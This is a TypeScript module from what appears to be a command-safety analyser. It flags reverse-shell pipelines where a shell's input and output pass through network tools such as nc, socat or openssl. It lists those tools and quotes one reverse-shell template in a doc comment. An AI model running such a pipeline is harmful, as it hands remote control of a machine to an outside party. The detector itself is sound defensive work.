import type { Span } from "../syntax/span.ts";
import type { Frame } from "./engine.ts";
import { INTERPRETERS, programName, SHELLS } from "./names.ts";

const TALKERS: ReadonlySet<string> = new Set([
  "nc",
  "ncat",
  "netcat",
  "telnet",
  "socat",
  "openssl",
  "gs-netcat",
  "websocat",
]);
const WRAPPED = /^(env|nice|nohup|timeout|setsid|busybox|stdbuf|sudo|exec|command)$/;

/** `cat pipe | sh -i 2>&1 | nc host port > pipe` and its kin: a shell between or before network tools. */
export function notePipeline(frame: Frame, stages: readonly string[], span: Span): void {
  const heads = stages.map(head);
  const shell = heads.findIndex((words) => readsInput(words));
  const talker = heads.findIndex((words) => TALKERS.has(words[0] ?? "") && !isListenOnly(words));
  if (shell < 0 || talker < 0) return;
  const after = heads.findIndex((words, index) => index > shell && TALKERS.has(words[0] ?? ""));
  if (after < 0) return;
  const words = heads[after] ?? [];
  const host = words.find((word, index) => index > 0 && !word.startsWith("-") && /[.:a-z$]/i.test(word));
  const says = `The output of a shell is piped to ${words[0]}${host === undefined ? "" : ` ${host}`}, and its input comes from there.`;
  frame.session.say(frame, "reverse-shell", span, says, "high", host === undefined ? {} : { host });
}

function head(stage: string): string[] {
  const words = stage.split(" ", 64);
  let at = 0;
  while (
    at < words.length - 1 &&
    (WRAPPED.test(programName(words[at] ?? "")) || (at > 0 && /^-|^[0-9]+[smh]?$|=/.test(words[at] ?? "")))
  ) {
    at += 1;
  }
  return [programName(words[at] ?? ""), ...words.slice(at + 1)];
}

/** A shell without a script: what it is piped is what it runs. */
function readsInput(words: readonly string[]): boolean {
  const [name = "", ...args] = words;
  if (!SHELLS.has(name) && !INTERPRETERS.has(name)) return false;
  if (INTERPRETERS.get(name)?.language === "awk") return false;
  return args.every((arg) => arg.startsWith("-") && !/^-[a-z]*c/.test(arg));
}

function isListenOnly(words: readonly string[]): boolean {
  return words[0] === "openssl" && words[1] !== "s_client";
}
